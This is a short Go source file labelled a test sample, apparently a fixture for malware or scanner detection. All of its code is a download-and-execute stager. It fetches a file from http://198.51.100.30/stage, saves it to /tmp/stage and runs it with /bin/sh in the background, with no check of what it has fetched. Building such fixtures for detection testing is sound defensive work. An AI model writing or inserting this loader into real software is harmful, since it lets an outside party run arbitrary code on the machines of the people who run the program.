// Test sample: a Go program that downloads with net/http and runs a command.
package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func main() {
	resp, err := http.Get("http://198.51.100.30/stage")
	if err != nil {
		return
	}
	defer resp.Body.Close()
	f, _ := os.Create("/tmp/stage")
	io.Copy(f, resp.Body)
	f.Close()
	exec.Command("/bin/sh", "/tmp/stage").Start()
}
